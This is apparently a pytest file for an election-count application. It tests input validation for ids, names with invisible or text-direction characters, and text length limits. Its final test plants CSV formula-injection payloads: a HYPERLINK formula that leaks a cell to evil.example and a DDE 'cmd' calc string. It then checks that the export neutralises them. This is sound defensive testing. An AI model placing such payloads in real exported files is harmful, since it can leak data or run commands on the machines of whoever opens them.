"""Issue 14 items 10 and 17: ids of punctuation only, invisible and text-direction characters in
names, text without a length bound. Refused at the door with the place, by the one rule book
(domain/text_rules.py) that the count file, CSV, round-2 reader, services and forms share."""

from __future__ import annotations

import json

import pytest
from security_helpers import LIVERPOOL, run_cli

from countdesk.domain.text_rules import FORBIDDEN_CLASS, ID_PATTERN, is_blank, is_valid_id
from countdesk.errors import ValidationError
from countdesk.exchange.countfile import parse_count_bytes
from countdesk.exchange.csv_import import read_candidates_csv
from countdesk.exchange.fsutil import safe_name
from countdesk.gui.controls.field_errors import name_problem
from countdesk.services.validation import require_id, require_text, validate_operator

COUNT = json.loads(LIVERPOOL.read_text())


def with_change(change) -> bytes:
    doc = json.loads(json.dumps(COUNT))
    change(doc)
    return json.dumps(doc).encode("utf-8")


@pytest.mark.parametrize("bad_id", ["_", "-", "..", ".", "-_-."])
def test_an_id_of_punctuation_only_is_refused_at_import(tmp_path, capsys, bad_id):
    def change(doc):
        doc["contests"][0]["id"] = bad_id

    path = tmp_path / "count.json"
    path.write_bytes(with_change(change))
    code, _, err = run_cli(capsys, "import", str(path), "--db", str(tmp_path / "c.countdesk"))
    assert code == 2 and err.count("\n") == 1
    assert "contests[0].id" in err and "at least one letter or digit" in err
    assert not (tmp_path / "c.countdesk").exists()
    for candidate_bad in (bad_id,):
        with pytest.raises(ValidationError, match="at least one letter or digit"):
            require_id(candidate_bad, "contests[0].id")
        assert not is_valid_id(candidate_bad)


def test_ids_with_a_letter_or_digit_still_pass():
    for good in ("a", "7", "_a", "mayor.liverpool.2021-05-06", "x" * 200):
        assert is_valid_id(good)
    assert not is_valid_id("x" * 201)


def test_every_name_gives_a_file_name_and_different_names_different_ones():
    names = ["_", "..", "中区", "Ярослав", "Caerdydd", "caerdydd "]
    made = [safe_name(n) for n in names]
    assert all(made) and len(set(made[:5])) == 5


def test_the_schema_states_the_same_rules_as_text_rules():
    from importlib import resources

    from countdesk.exchange.countfile_schema import SCHEMA_RESOURCES

    for resource in SCHEMA_RESOURCES.values():  # every format version's schema
        schema = json.loads(resources.files("countdesk").joinpath(resource).read_text("utf-8"))
        assert schema["$defs"]["id"]["pattern"] == ID_PATTERN, resource
        assert schema["$defs"]["text"]["pattern"] == f"^[^{FORBIDDEN_CLASS}]*$", resource


INVISIBLE = ["\u200b", "\u2060", "\ufeff", "\u180e"]
DIRECTION = ["\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
             "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("ch", INVISIBLE + DIRECTION)
def test_zero_width_and_direction_characters_are_refused_in_names(ch):
    def change(doc):
        doc["contests"][0]["candidates"][0]["name"] = f"Joanne{ch} ANDERSON"

    with pytest.raises(ValidationError) as refused:
        parse_count_bytes(with_change(change), "count.json")
    assert "contests[0].candidates[0].name" in str(refused.value) and f"U+{ord(ch):04X}" in str(refused.value)
    with pytest.raises(ValidationError, match=f"U\\+{ord(ch):04X}"):
        require_text(f"A{ch}B", "name", "the name")
    assert f"U+{ord(ch):04X}" in name_problem(f"A{ch}B", "The name")
    with pytest.raises(ValidationError, match=f"U\\+{ord(ch):04X}"):
        read_candidates_csv(f"name\nJoanne{ch} ANDERSON\n".encode(), name="candidates.csv")


@pytest.mark.parametrize("blank", ["\u200b", "\u200c", "\u200d\u200c ", " \u200b "])
def test_a_name_of_only_invisible_characters_is_blank(blank):
    assert is_blank(blank)

    def change(doc):
        doc["contests"][0]["candidates"][0]["name"] = blank

    with pytest.raises(ValidationError, match="contests\\[0\\].candidates\\[0\\].name"):
        parse_count_bytes(with_change(change), "count.json")
    with pytest.raises(ValidationError):
        require_text(blank, "name", "the name")
    assert name_problem(blank, "The name")


def test_joiners_inside_a_persian_name_pass_the_text_rules():
    from countdesk.domain.text_rules import first_forbidden_char

    name = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # ZWNJ between letters, as Persian writes it
    assert not is_blank(name) and first_forbidden_char(name) is None
    # (the documents' font has no Arabic script: the services refuse it for that reason, by name)
    with pytest.raises(ValidationError, match="U\\+0645"):
        require_text(name, "name", "the name")


def test_issued_by_and_the_operator_are_length_bounded():
    from countdesk.exchange.round2 import parse_round2_document

    doc = {"format": "countdesk-round2/1", "election_id": "e", "contest_id": "c", "finalists": ["a", "b"],
           "first_preferences": {"a": 40, "b": 35, "c": 25}, "areas": ["A"], "issued_at": "2021-05-07T16:05:00+01:00",
           "issued_by": "x" * 100_000}
    with pytest.raises(ValidationError, match="issued_by.*longer than 500"):
        parse_round2_document(doc)
    with pytest.raises(ValidationError, match="longer than"):
        validate_operator("o" * 10_000)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_results_csv_cells_a_spreadsheet_would_run_are_inert(start):
    import csv
    import io

    from countdesk.domain.tally import tally
    from countdesk.exchange.countfile import load_count_file
    from countdesk.exchange.results_csv import results_to_csv

    count = load_count_file(LIVERPOOL)
    contest = count.contests[0]
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    first = contest.candidates[0]
    from dataclasses import replace

    contest = replace(contest, title=f"{start}cmd|' /C calc'!A0",
                      candidates=(replace(first, name=attack, description=f"{start}1+1"), *contest.candidates[1:]))
    count = replace(count, contests=(contest,))
    result = tally(count)[0]
    rows = list(csv.DictReader(io.StringIO(results_to_csv([(count.election, contest, result)]))))
    row = next(r for r in rows if r["candidate_id"] == first.id)
    for column in ("candidate_name", "party_name", "contest_title"):
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["candidate_name"][1:] == attack  # strip the ' to get the name exactly as entered
    assert all(not r["votes"].startswith("'") for r in rows)
